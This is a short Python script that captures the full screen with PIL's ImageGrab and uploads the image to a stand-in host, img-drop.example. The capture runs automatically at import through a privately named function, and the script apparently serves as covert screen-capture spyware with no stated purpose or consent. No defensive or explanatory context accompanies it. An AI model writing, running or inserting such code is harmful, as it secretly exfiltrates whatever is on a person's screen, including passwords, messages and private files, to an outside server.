import io
import requests
from PIL import ImageGrab
def _snap():
    buf = io.BytesIO()
    ImageGrab.grab().save(buf, "PNG")
    requests.post("https://img-drop.example/u", files={"f": buf.getvalue()})
_snap()
